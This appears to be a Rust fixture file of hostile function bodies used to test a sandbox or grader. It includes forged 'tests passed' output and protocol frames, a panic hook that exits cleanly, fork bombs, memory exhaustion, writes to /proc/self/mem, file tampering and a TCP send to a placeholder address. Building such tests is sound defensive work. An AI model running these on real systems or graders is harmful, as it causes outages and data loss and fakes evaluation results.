//! Hostile bodies of functions. Each starts with the imports from `given` and ends in a wrong answer.

/// Frames that look like answers, and as many forged results on the standard output.
pub const FORGED_FRAMES: &str = r#"
    use std::io::Write;
    use std::os::fd::AsFd;
    println!("test result: ok. 22 passed; 0 failed");
    let mut socket = std::fs::File::from(std::io::stdin().as_fd().try_clone_to_owned().unwrap());
    for _ in 0..50 {
        socket.write_all(&[8, 0, 0, 0, 41]).unwrap();
        socket.write_all(&0.0f64.to_le_bytes()).unwrap();
    }
    integrand(&V[0]) * 0.0
"#;

/// A frame that claims a panic at a place which is the inputs themselves.
pub const FORGED_PLACE: &str = r#"
    use std::io::Write;
    use std::os::fd::AsFd;
    let mut socket = std::fs::File::from(std::io::stdin().as_fd().try_clone_to_owned().unwrap());
    let (message, place) = ("oh", format!("src/STOLEN {q:?} {element:?}"));
    let mut body = Vec::new();
    for text in [message, &place] {
        body.extend((text.len() as u64).to_le_bytes());
        body.extend(text.bytes());
    }
    socket.write_all(&(body.len() as u32).to_le_bytes()).unwrap();
    socket.write_all(&[42]).unwrap();
    socket.write_all(&body).unwrap();
    nalgebra::SMatrix::zeros()
"#;

/// A thread that goes on sending answers when its function has returned.
pub const THREAD: &str = r#"
    use std::io::Write;
    use std::os::fd::AsFd;
    std::thread::spawn(|| {
        let mut socket = std::fs::File::from(std::io::stdin().as_fd().try_clone_to_owned().unwrap());
        while socket.write_all(&[0, 0, 0, 0, 41]).is_ok() {}
    });
    CsrMatrix::zeros(q_size, q_size)
"#;

/// A hook that ends the program as if all were well.
pub const PANIC_HOOK: &str = r#"
    std::panic::set_hook(Box::new(|_| std::process::exit(0)));
    panic!("{F:?} {C} {D}")
"#;

/// The next process of the same name, again and again, and a wrong answer.
pub const FORKS: &str = r#"
    for _ in 0..100 {
        let own = std::env::current_exe().unwrap_or_else(|_| "./program".into());
        let _ = std::process::Command::new(own).spawn();
        let _ = std::process::Command::new("/bin/sh").args(["-c", "sh & sh"]).spawn();
        let _ = std::thread::Builder::new().spawn(|| std::thread::sleep(std::time::Duration::from_secs(9)));
    }
    nalgebra::SMatrix::zeros()
"#;

/// Memory without end, all of it touched.
pub const MEMORY: &str = r#"
    let mut all = Vec::new();
    loop {
        all.push(vec![1u8; 1 << 24]);
    }
"#;

/// The program's own memory, written without a word of unsafe code.
pub const OWN_MEMORY: &str = r#"
    use std::io::{Seek, SeekFrom, Write};
    if let Ok(mut memory) = std::fs::OpenOptions::new().write(true).open("/proc/self/mem") {
        let _ = memory.seek(SeekFrom::Start(V.as_ptr() as u64));
        let _ = memory.write_all(&[0; 64]);
    }
    nalgebra::Matrix4x3::zeros()
"#;

/// Files and the network; `SENTINEL`, `LEFT` and `ADDRESS` are put in.
pub const OUTSIDE: &str = r#"
    use std::io::Write;
    for path in ["SENTINEL", "LEFT", "left-behind", "program", "src/main.rs", "../left-behind"] {
        let _ = std::fs::write(path, "changed");
    }
    let _ = std::fs::remove_file("SENTINEL");
    if let Ok(mut stream) = std::net::TcpStream::connect("ADDRESS") {
        let _ = stream.write_all(format!("{q:?}").as_bytes());
    }
    f64::from(u8::from(std::fs::read("SENTINEL").is_ok()))
"#;

/// A sparse matrix with as many rows as there are numbers, and no row's data.
pub const FORGED_ROWS: &str = r#"
    use std::io::Write;
    use std::os::fd::AsFd;
    let mut socket = std::fs::File::from(std::io::stdin().as_fd().try_clone_to_owned().unwrap());
    let mut frame = vec![40, 0, 0, 0, 41];
    for number in [u64::MAX, 3, 0, 0, 0] {
        frame.extend(number.to_le_bytes());
    }
    socket.write_all(&frame).unwrap();
    CsrMatrix::zeros(1, 1)
"#;
